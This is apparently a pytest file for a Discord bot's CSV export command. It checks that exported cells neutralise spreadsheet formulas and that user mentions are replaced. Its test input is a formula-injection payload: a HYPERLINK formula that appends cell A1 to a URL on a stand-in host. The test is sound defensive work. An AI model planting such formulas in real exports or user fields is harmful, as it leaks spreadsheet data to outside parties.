"""`/exportar formato:csv` through the real bot: spreadsheet-safe cells, no Discord ids."""

import csv
import io
from typing import Any

from bot import strings
from tests.discord.conftest import StartBot, ask
from tests.fakes.discord_server import FakeDiscord

MENTIONED = "381234567890111111"
QUESTION = f'=HYPERLINK("http://x.example/?q="&A1,"¿Qué es Argilla? <@{MENTIONED}>")'


async def _callback(fake: FakeDiscord, interaction_id: str) -> dict[str, Any]:
    await fake.wait_until(lambda: interaction_id in fake.callbacks)
    return fake.callbacks[interaction_id][1]


async def test_exportar_csv_neutralises_formulas_and_replaces_mentions(
    start_bot: StartBot, fake_discord: FakeDiscord, sample_data_dir
):
    async with start_bot():
        await ask(fake_discord, QUESTION)
        exported, token = await fake_discord.slash(
            "exportar", {"formato": "csv", "estado": "all"}, moderator=True, user_id=9
        )
        (upload,) = await fake_discord.wait_for("POST", rf"/webhooks/\d+/{token}$")
    assert (await _callback(fake_discord, exported))["data"]["flags"] & 64
    assert list(upload.files) == ["pide-ayuda-all.csv"]  # the file `pide-ayuda export` writes
    data = upload.files["pide-ayuda-all.csv"].decode()
    (row,) = list(csv.DictReader(io.StringIO(data, newline="")))
    assert row["question"] == "'" + QUESTION.replace(f"<@{MENTIONED}>", "@usuario")
    assert MENTIONED not in data
    assert upload.body["content"] == strings.EXPORT_DONE.format(count=1, fmt="csv")
